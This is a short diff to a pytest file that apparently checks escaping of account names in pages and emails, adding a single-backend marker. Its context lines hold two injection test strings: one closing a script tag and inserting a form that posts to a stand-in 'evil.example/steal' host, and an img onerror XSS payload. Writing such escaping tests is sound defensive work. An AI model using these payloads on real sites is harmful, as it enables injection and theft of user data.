@@ -12,6 +12,9 @@ import pytest
 
 from tests.support import make_account, make_client, pkce_pair
 
+# one backend: how a name is escaped in pages and emails: not storage
+pytestmark = pytest.mark.one_backend
+
 EVIL = "</script><form action=https://evil.example/steal method=post><input name=q>"
 EVIL_FAMILY = '<img src=x onerror="alert(1)">'
 
